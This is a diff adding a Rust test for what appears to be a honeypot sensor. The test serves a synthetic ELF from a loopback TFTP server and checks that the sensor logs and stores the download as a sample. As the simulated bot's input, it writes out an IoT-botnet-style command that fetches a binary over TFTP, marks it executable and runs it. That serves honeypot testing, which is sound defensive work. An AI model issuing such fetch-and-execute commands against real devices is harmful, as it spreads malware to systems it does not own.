@@ -372,3 +372,81 @@ fn fetching_downloads_what_the_bot_asks_for_and_its_second_stage() {
         "the denied address was never contacted"
     );
 }
+
+/// A loopback TFTP server for one read request: returns its port and, once the
+/// transfer ends, the file name asked for.
+fn tftp_server(body: Vec<u8>) -> (u16, std::thread::JoinHandle<String>) {
+    let listener = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let handle = std::thread::spawn(move || {
+        let mut buf = [0u8; 600];
+        let (n, client) = listener.recv_from(&mut buf).unwrap();
+        let request = &buf[..n];
+        assert_eq!(&request[..2], &[0, 1], "a read request");
+        let fields: Vec<&[u8]> = request[2..].split(|&b| b == 0).collect();
+        assert_eq!(fields[1], b"octet");
+        let name = String::from_utf8(fields[0].to_vec()).unwrap();
+        // RFC 1350: the transfer runs from a port of its own.
+        let transfer = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
+        transfer
+            .set_read_timeout(Some(std::time::Duration::from_secs(10)))
+            .unwrap();
+        for (i, chunk) in body.chunks(512).chain([&[][..]]).enumerate() {
+            let block = (i + 1) as u16;
+            let mut packet = vec![0, 3];
+            packet.extend_from_slice(&block.to_be_bytes());
+            packet.extend_from_slice(chunk);
+            transfer.send_to(&packet, client).unwrap();
+            let (n, _) = transfer.recv_from(&mut buf).unwrap();
+            assert_eq!(
+                &buf[..n],
+                &[0, 4, (block >> 8) as u8, block as u8],
+                "ACK {block}"
+            );
+            if chunk.len() < 512 {
+                break;
+            }
+        }
+        name
+    });
+    (port, handle)
+}
+
+#[test]
+fn fetching_over_tftp_lands_the_binary_as_a_sample() {
+    let binary = synthetic_elf((1, 1, 40), 1500);
+    let sha: String = Sha256::digest(&binary)
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect();
+    let (port, server) = tftp_server(binary.clone());
+    let config = "profile = \"xiongmai-dvr\"\n\
+                  download_tools = [\"tftp\"]\n\
+                  [fetch]\n\
+                  enabled = true\n\
+                  allow = [\"127.0.0.1/32\"]\n\
+                  timeout = \"10s\"\n";
+    let sensor = Sensor::start_with(config);
+    let mut client = sensor.connect();
+    client.login();
+    client.send(
+        format!("cd /var; tftp -g -r bins/t.arm7 -l t 127.0.0.1 {port}; chmod 777 t; ./t\r\n")
+            .as_bytes(),
+    );
+    let out = client.read_until(b"listening tun0", std::time::Duration::from_secs(20));
+    assert!(!String::from_utf8_lossy(&out).contains("tftp:"), "{out:?}");
+    assert_eq!(server.join().unwrap(), "bins/t.arm7");
+    client.send(b"exit\r\n");
+    let events = sensor.wait_for_events("the session closed", |e| {
+        e.iter().any(|v| v["eventid"] == "cowrie.session.closed")
+    });
+    let url = format!("tftp://127.0.0.1:{port}/bins/t.arm7");
+    let file = events
+        .iter()
+        .find(|v| v["eventid"] == "cowrie.session.file_download" && v["destfile"] == "/var/t")
+        .expect("a file_download for /var/t");
+    assert_eq!(file["url"], url.as_str());
+    assert_eq!(file["shasum"], sha.as_str());
+    let stored = sensor.data_dir.path().join("samples").join(&sha);
+    assert_eq!(std::fs::read(stored).unwrap(), binary);
+}
